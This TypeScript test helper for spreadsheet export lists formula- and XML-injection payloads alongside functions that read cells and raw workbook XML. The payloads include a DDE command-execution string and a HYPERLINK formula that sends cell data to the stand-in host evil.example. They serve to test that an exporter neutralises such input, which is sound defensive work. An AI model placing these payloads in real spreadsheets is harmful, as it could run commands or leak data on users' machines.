import { unzipSync } from 'fflate';
import { utils, type CellObject, type WorkBook, type WorkSheet } from 'xlsx';

/** Texts that spreadsheet programs would run if they were taken for formulas. */
export const activeTexts = [
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+1+1',
  '-2+3',
  '@SUM(1,2)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '=1+1";=2+2',
  '<c r="A1"><f>1+1</f></c>',
  '</t></is></c><c r="Z9"><f>1+1</f><v>2</v></c>',
  ']]><f>1</f>',
  '_x003D_1+1',
  '_x005F_x003D_',
  '\u0007bell & "quotes" <tags>',
  '𝒳 emoji 🎉 हिन्दी',
];

export function sheetNamed(book: WorkBook, name: string): WorkSheet {
  const sheet = book.Sheets[name];
  if (sheet === undefined) throw new Error(`There is no sheet ${name}.`);
  return sheet;
}

/** The cell at that place (0-based); undefined when there is none. */
export function cellAt(sheet: WorkSheet, r: number, c: number): CellObject | undefined {
  const cell: unknown = sheet[utils.encode_cell({ r, c })];
  return isCell(cell) ? cell : undefined;
}

function isCell(value: unknown): value is CellObject {
  return typeof value === 'object' && value !== null && 't' in value;
}

export function everyCell(sheet: WorkSheet): CellObject[] {
  const range = utils.decode_range(sheet['!ref'] ?? 'A1');
  const cells: CellObject[] = [];
  for (let r = range.s.r; r <= range.e.r; r += 1)
    for (let c = range.s.c; c <= range.e.c; c += 1) {
      const cell = cellAt(sheet, r, c);
      if (cell !== undefined) cells.push(cell);
    }
  return cells;
}

/** The XML of one part of a workbook's zip. */
export function partOf(workbook: Uint8Array, name: string): string {
  const bytes = unzipSync(workbook)[name];
  if (bytes === undefined) throw new Error(`The workbook has no part ${name}.`);
  return new TextDecoder().decode(bytes);
}
